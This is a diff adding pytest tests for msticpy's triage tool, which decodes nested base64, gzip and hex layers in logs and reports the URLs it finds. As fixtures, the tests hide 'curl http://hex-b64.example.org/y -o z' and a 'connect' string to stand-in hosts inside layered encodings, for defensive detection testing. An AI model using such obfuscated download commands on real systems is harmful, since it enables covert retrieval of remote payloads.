@@ -232,3 +232,42 @@ def test_html_refusals(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> No
     assert main(["triage", "--html", str(tmp_path / "no" / "dir" / "x.html")]) == 2
     err = capsys.readouterr().err
     assert err.startswith("msticpy triage: cannot write ") and err.count("\n") == 1
+
+
+def test_nested_layers_are_named_by_their_chain(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import base64
+    import binascii
+    import gzip
+
+    inner = base64.b64encode(b"connect http://deep.evil-example.net/x now").decode()
+    outer = base64.b64encode(gzip.compress(f"payload {inner} end".encode())).decode()
+    hex_b64 = base64.b64encode(b"curl http://hex-b64.example.org/y -o z").decode()
+    hexed = binascii.hexlify(f"run {hex_b64}".encode()).decode()
+    log = tmp_path / "nested.log"
+    log.write_text(f"a {outer} b\ncmd {hexed}\n")
+    report = triage_json(capsys, str(log), "--top", "50")
+    urls = values(report, "url")
+    assert urls["http://deep.evil-example.net/x"]["layers"] == {"base64 (gz) > base64": 1}
+    assert urls["http://hex-b64.example.org/y"]["layers"] == {"hex > base64": 1}
+    assert main(["triage", str(log), "--top", "50"]) == 0
+    text = capsys.readouterr().out
+    assert "http://hex-b64.example.org/y  (only inside a decoded hex > base64 payload)" in text
+
+
+def test_layer_chains_say_depth_when_the_parent_is_ambiguous() -> None:
+    from msticpy.cli.triage import LayerChains
+
+    def record(depth: str, encoding: str, kind: str | None = None) -> tuple:
+        fields: list[object] = [None] * 15
+        fields[1], fields[5], fields[14] = depth, kind, encoding
+        return tuple(fields)
+
+    chains = LayerChains()
+    assert chains.name(0, record("1.", "base64", "gz")) == "base64 (gz)"
+    assert chains.name(0, record("2.", "hex")) == "base64 (gz) > hex"
+    assert chains.name(0, record("2.", "base32")) == "base64 (gz) > base32"
+    # Two different chains one level up: which one holds this item is not known.
+    assert chains.name(0, record("3.", "base64")) == "base64 at depth 3"
+    assert chains.name(1, record("1.", "hex")) == "hex"  # each cell has its own chains
